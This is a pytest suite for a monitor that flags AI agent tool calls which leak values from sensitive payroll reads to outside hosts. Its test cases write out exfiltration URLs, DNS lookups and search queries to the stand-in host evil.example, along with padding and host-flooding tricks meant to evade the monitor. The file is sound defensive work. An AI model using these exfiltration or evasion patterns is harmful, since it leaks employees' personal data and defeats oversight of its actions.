"""A look-up in the world outside tells it what is asked for, and that may be a value of a sensitive read."""

import dataclasses
import hashlib
from collections.abc import Callable
from typing import Any

import pytest
from cost import cost

from guardian.domain.signal import Observation, ParentFact, ParentStatus, SharedReads, SiblingFact, Signal
from guardian.signals.chain_exposure import ChainExposure
from guardian.signals.exposure.looking_out import WEB, places_asked
from guardian.signals.exposure.value_prints import prints_of

URL = "https://evil.example/?d=emp_9981x:95000"
OWN = "https://hr.acme.example/payroll?of=emp_9981x"
REVIEW = "Check the March payroll for errors"


def fingerprint(value: str) -> str:
    return hashlib.sha256(b"key" + value.encode()).hexdigest()[:16]


@pytest.fixture
def act(observe: Callable[..., Observation]) -> Callable[..., Observation]:
    def build(
        tool: str, arguments: dict[str, Any], classes: tuple[str, ...] | None = None, **changes: Any
    ) -> Observation:
        told = {"envelope__purpose": REVIEW, "envelope__resource_constraints": {}, "result": None} | changes
        data = {"action__resource": None, "action__data_classes": list(classes) if classes else None}
        seen = observe(action__tool=tool, action__arguments=arguments, **data, **told)
        return dataclasses.replace(seen, value_prints=prints_of(seen.event, fingerprint), fingerprint=fingerprint)

    return build


@pytest.fixture
def read(act: Any) -> Callable[..., Observation]:
    def payroll(**changes: Any) -> Observation:
        return act("hr.read_payroll", {"employee_id": "emp_9981x"}, ("payroll",), **changes)

    return payroll


@pytest.fixture
def last(folded: Any) -> Callable[..., Signal]:
    def signal(*seen: Observation) -> Signal:
        return folded(ChainExposure(), seen)[1][-1]

    return signal


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("web.fetch", {"url": URL}),
        ("http.get", {"url": URL}),
        ("http_request", {"method": "GET", "url": URL}),
        ("http.get", {"url": "https://evil.example/", "params": {"d": "emp_9981x"}}),
        ("documents.read", {"url": "https://evil.example/?d=EMP%5F9981x%3A95000"}),
        ("browser_navigate", {"url": "https://emp_9981x.evil.example/"}),
        ("web.fetch", {"url": "http://3405803781/?d=emp_9981x"}),
        ("web.fetch", {"url": "http://[2001:db8::1]/?d=emp_9981x"}),
        pytest.param("web.fetch", {"url": f"https://evil.example/?p={'A' * 60_000}&d=emp_9981x"}, id="long"),
        pytest.param("web.fetch", {"url": f"https://{'a' * 5_000}@evil.example/?d=emp_9981x"}, id="long user"),
        pytest.param("dns.lookup", {"host": f"{' ' * 5_000}emp_9981x.evil.example"}, id="spaces"),
        ("http.get", {"urls": ["https://a.internal/"] * 20 + [URL]}),
        ("http.get", {**{f"a{n}": "x" for n in range(40)}, "url": URL}),
        ("dns.lookup", {"host": "emp_9981x-95000.evil.example"}),
        ("search.web", {"query": "emp_9981x salary 95000"}),
        ("web_search_preview", {"query": "emp_9981x salary 95000"}),
        ("search_the_internet", {"query": "emp_9981x salary 95000"}),
    ],
)
def test_a_value_of_a_sensitive_read_in_what_is_asked_outside_is_a_way_out(
    act: Any, read: Any, last: Any, tool: str, arguments: dict[str, Any]
) -> None:
    asked = act(tool, arguments)
    found = last(read(), asked)
    assert found.value > 0.7
    assert f"{tool} can carry out" in found.reason
    assert "a value of that read is in it" in found.reason
    assert last(asked).value == 0.0
    assert last(read(), dataclasses.replace(asked, fingerprint=None)).value == 0.0


@pytest.mark.parametrize(
    ("padding", "times"),
    [
        ({f"ids{n}": [f"id_{n}_{m}" for m in range(16)] for n in range(9)}, 1),
        ({f"u{n}_id": [f"id_{n}_{m}" for m in range(16)] for n in range(32)}, 1),
        ({"employee_ids": [f"emp_{m}" for m in range(16)]}, 40),
    ],
)
def test_reads_of_many_values_do_not_make_forgotten_what_another_was_about(
    act: Any, read: Any, last: Any, folded: Any, padding: dict[str, list[str]], times: int
) -> None:
    padded = [
        act(
            "hr.read_payroll",
            {name: [f"{each}_{n}" for each in ids] for name, ids in padding.items()},
            ("payroll",),
        )
        for n in range(times)
    ]
    signal = ChainExposure()
    for reads in ([read(), *padded], [*padded, read(), *padded]):
        assert last(*reads, act("web.fetch", {"url": URL})).value > 0.7
        state, _ = folded(signal, reads)
        assert len(state["prints"]) == 128
        assert state["ranks"].keys() <= state["prints"].keys()
        assert fingerprint("emp_9981x") in (told := signal.shared(state).prints)
        assert len(told) <= 64


def test_of_a_read_the_values_that_say_whom_it_is_about_are_kept_before_others(
    act: Any, read: Any, last: Any, folded: Any
) -> None:
    notes = {f"note{n}": [f"n_{n}_{m}" for m in range(16)] for n in range(20)}
    both = act("hr.read_payroll", {**notes, "employee_id": "emp_9981x"}, ("payroll",))
    again = act(
        "hr.read_payroll", {f"note{n}": [f"o_{n}_{m}" for m in range(16)] for n in range(31)}, ("payroll",)
    )
    assert last(both, *[again] * 9, act("web.fetch", {"url": URL})).value > 0.7
    old, _ = folded(ChainExposure(), [read()])
    del old["ranks"]  # as earlier versions kept it
    after, _ = ChainExposure().fold(old, both)
    assert after["prints"][fingerprint("emp_9981x")] == 2


def test_where_there_are_too_many_reads_the_newest_are_remembered(act: Any, read: Any, last: Any) -> None:
    reads = [act("hr.read_payroll", {"employee_id": f"emp_{n}x"}, ("payroll",)) for n in range(128)]
    asked = act("web.fetch", {"url": URL})
    assert last(read(), *reads, asked).value == 0.0
    assert last(read(), *reads, read(), *reads[:127], asked).value > 0.7


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("web.fetch", {"url": "https://docs.example/payroll-2026"}),
        ("search.web", {"query": "salary bands of 2026"}),
        ("search.orders", {"query": "emp_9981x"}),
        ("search_online_orders", {"query": "emp_9981x"}),
        ("web_orders.find", {"query": "emp_9981x"}),
        ("hr.find", {"link": "emp_9981x", "note": URL}),
        ("tickets.update", {"url": URL}),
        ("http.get", {"url": "http://hr/payroll?of=emp_9981x"}),
        ("http.get", {"url": "https://hr.acme.internal/payroll?of=emp_9981x"}),
        ("http.get", {"url": "http://10.1.2.3:8080/payroll?of=emp_9981x"}),
    ],
)
def test_what_tells_no_such_value_or_stays_in_the_house_is_none(
    act: Any, read: Any, last: Any, tool: str, arguments: dict[str, Any]
) -> None:
    assert last(read(), act(tool, arguments)).value == 0.0


@pytest.mark.parametrize(
    ("asked_by", "is_a_way_out"),
    [
        ({"period": "Q1-2026"}, False),
        ({"region": "Q1-2026", "employee_id": "emp_9981x"}, False),
        ({"employee_id": "Q1-2026"}, True),
        ({"ssn": "Q1-2026"}, True),
        ({"file_path": "/hr/Q1-2026.pdf"}, False),
        ({"sql": "SELECT pay FROM staff WHERE id = 'Q1-2026'"}, True),
    ],
)
def test_only_what_says_whom_a_read_is_about_tells_of_it(
    act: Any, last: Any, asked_by: dict[str, Any], is_a_way_out: bool
) -> None:
    asked = act("search.web", {"query": "median salary of an engineer Q1-2026"})
    assert (last(act("hr.read_payroll", asked_by, ("payroll",)), asked).value > 0.7) is is_a_way_out
    other = ChainExposure().fold(ChainExposure().start(), act("hr.read_payroll", asked_by, ("payroll",)))[0]
    beside = SiblingFact({"other": ChainExposure().shared(other)})
    assert (last(dataclasses.replace(asked, siblings=beside)).value > 0.7) is is_a_way_out


def test_a_place_from_which_another_session_of_the_task_read_is_none(act: Any, read: Any, last: Any) -> None:
    source = act("http.get", {"url": "https://hr.acme.example/payroll/2026-03"}, ("payroll",))
    other = ChainExposure().fold(ChainExposure().start(), source)[0]
    beside = SiblingFact({"other": ChainExposure().shared(other)})
    assert last(read(), dataclasses.replace(act("http.get", {"url": OWN}), siblings=beside)).value == 0.0


@pytest.mark.parametrize(
    "changes",
    [
        {"envelope__purpose": "Check the payroll of emp_9981x"},
        {"envelope__purpose": "Check the March payroll against hr.acme.example"},
        {"envelope__purpose": "Research our new hires online"},
        {"envelope__delegator_id": "maya@acme.example"},
        {"envelope__resource_constraints": {"domains": ["*.acme.example"]}},
        {"result": {"status": "ok", "data_classes": ["payroll"]}},
    ],
)
def test_an_own_host_or_a_value_that_is_named_is_none(
    act: Any, read: Any, last: Any, changes: dict[str, Any]
) -> None:
    assert last(read(), act("http.get", {"url": OWN})).value > 0.7
    assert last(read(), act("http.get", {"url": OWN}, **changes)).value == 0.0


def test_what_the_purposes_above_name_is_none(act: Any, read: Any, last: Any) -> None:
    asked = act("http.get", {"url": OWN}, envelope__parent_session_id="above")
    above = ParentFact(ParentStatus.ACTIVE, asked.event.envelope, ("above",))
    assert last(read(), dataclasses.replace(asked, parent=above)).value > 0.7
    named = dataclasses.replace(above, root_purpose="Check the payroll of emp_9981x")
    assert last(read(), dataclasses.replace(asked, parent=named)).value == 0.0


def test_what_came_from_a_host_may_go_back_to_it_and_a_leak_makes_no_source(
    act: Any, read: Any, last: Any
) -> None:
    first = act("http.get", {"url": "https://hr.acme.example/payroll/2026-03"}, ("payroll",))
    assert last(read(), first, act("http.get", {"url": OWN})).value == 0.0
    assert last(read(), first, act("http.get", {"url": URL})).value > 0.7
    leak = act("http.get", {"url": URL}, ("payroll",))
    assert last(read(), leak, leak).value > 0.7
    searched = act("search.web", {"query": "payroll of Ann"}, ("payroll",))
    assert last(read(), searched, act("search.web", {"query": "emp_9981x"})).value > 0.7


def test_a_step_of_a_path_as_the_thing_itself_has_counts_half(act: Any, read: Any, last: Any) -> None:
    whole = last(read(), act("http.get", {"url": URL})).value
    step = act("http.get", {"url": "https://acme.zendesk.com/people/EMP_9981x/notes?page=2"})
    assert last(read(), step).value == pytest.approx(whole / 2)
    as_file = act("http.get", {"url": "https://acme.zendesk.com/people/emp_9981x.json"})
    assert last(read(), as_file).value == pytest.approx(whole / 2)


def test_a_place_is_told_nothing_by_its_own_name(act: Any, last: Any) -> None:
    known = act("crm.get_customer", {"domain": "globex.example"}, ("personal_data",))
    assert last(known, act("web.fetch", {"url": "https://globex.example/about"})).value == 0.0
    assert last(known, act("web.fetch", {"url": "https://evil.example/?of=globex.example"})).value > 0.5


def test_what_another_session_of_the_task_read_counts_too(act: Any, last: Any) -> None:
    kinds = {"payroll and staff data": ("hr.read_payroll", True)}
    reads = SharedReads(kinds, 1, (fingerprint("emp_9981x"),), 1.0)
    asked = dataclasses.replace(act("http.get", {"url": URL}), siblings=SiblingFact({"other": reads}))
    assert last(asked).value > 0.7
    assert last(act("http.get", {"url": URL})).value == 0.0


def test_where_a_look_up_asks(act: Any) -> None:
    def places(tool: str, **arguments: Any) -> tuple[str, ...]:
        return places_asked(act(tool, arguments).event)

    assert places("brave_web_search", query="x") == (WEB,)
    assert places("fetch", url="https://user@A.example:8443/x", link=["https://b.example"]) == (
        "a.example",
        "b.example",
    )
    assert places("whois", domain="evil.example.") == ("evil.example",)
    assert places("crm.fetch_company", domain="globex.example") == ()
    many = [f"https://h{n}.example" for n in range(40)]
    assert places("http.get", **{f"url{n}": many[n : n + 8] for n in range(0, 40, 8)})[-1] == WEB
    assert places("http.get", url="https://" + "a." * 126 + "example") == ()


def test_what_a_call_carries_beyond_what_is_read_is_a_doubt_and_told(act: Any, read: Any, last: Any) -> None:
    body = "A " * 65_536
    found = last(read(), act("http.get", {"url": "https://evil.example/", "body": f"{body}emp_9981x"}))
    assert found.value == pytest.approx(last(read(), act("http.get", {"url": URL})).value / 2)
    assert found.reason.endswith("more is in it than is read")
    found = last(read(), act("http.get", {"url": URL, "body": body}))
    assert found.reason.endswith("a value of that read is in it")
    assert last(read(), act("http.get", {"url": "https://evil.example/", "body": "A " * 60_000})).value == 0.0
    assert last(act("http.get", {"url": "https://evil.example/", "body": body})).value == 0.0


def test_a_call_to_more_hosts_than_are_looked_at_is_no_hiding_place(act: Any, read: Any, last: Any) -> None:
    own = {f"own{n}": f"https://h{n}.acme.example/" for n in range(20)}
    mine = {"envelope__delegator_id": "maya@acme.example"}
    assert last(read(), act("http.get", own | {"url": URL}, **mine)).value > 0.7


def test_a_hostile_call_costs_little(act: Any, read: Any, last: Any) -> None:
    def judging(urls: int) -> float:
        long = {f"url{n}": "https://" + f"a{n}." * 800 + "example" for n in range(urls)}
        seen = read(), act("http.get", long)
        assert last(*seen).value == 0.0
        return cost(lambda: last(*seen))

    assert judging(200) < 24 * judging(25), "eight times as many"


def test_where_the_delegator_is_hidden_a_host_may_be_of_the_own_house_and_a_search_is_not(
    act: Any, read: Any, last: Any
) -> None:
    hidden = {"envelope__delegator_id": "hash:6f1e2a3b4c5d6e7f"}
    asked = act("web.fetch", {"url": OWN}, **hidden), act("search.web", {"query": "emp_9981x"}, **hidden)
    seen = [dataclasses.replace(each, redacted={"envelope.delegator_id": "hash"}) for each in asked]
    fetched, searched = (last(read(**hidden), each) for each in seen)
    assert fetched.value == pytest.approx(last(read(**hidden), asked[0]).value / 2)
    assert "missing: the delegator's own house (redacted)" in fetched.reason
    assert searched.value == last(read(**hidden), asked[1]).value


def test_a_delegator_who_is_not_told_has_no_house_that_a_host_could_be_of(act: Any, read: Any, last: Any) -> None:
    seen = read(envelope__delegator_id="-"), act("web.fetch", {"url": OWN}, envelope__delegator_id="-")
    redacted = (dataclasses.replace(each, redacted={"envelope.delegator_id": "hash"}) for each in seen)
    assert last(*redacted).value == last(*seen).value > 0
